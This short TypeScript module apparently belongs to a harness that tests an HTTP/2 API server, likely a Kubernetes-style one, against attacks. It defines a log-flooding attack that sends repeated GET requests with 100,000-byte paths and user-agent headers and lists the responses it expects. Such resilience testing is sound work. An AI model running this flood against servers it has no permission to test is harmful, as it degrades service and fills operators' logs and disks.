// Requests whose names fill the logs.

import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'log flooding',
  does: 'asks with paths and a user agent of 100,000 bytes',
  who: ['known', 'unknown'],
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', '400', '404', '414'],
  run: (target, signal) => {
    const long = 'n'.repeat(100_000)
    const block = head(target, 'GET', `/api/v1/namespaces/${long}/configmaps/${long}`, 'user-agent', long)
    return attackHttp2(target, signal, {}, (connection) => closedLoop(connection, 20, request(block)))
  },
}
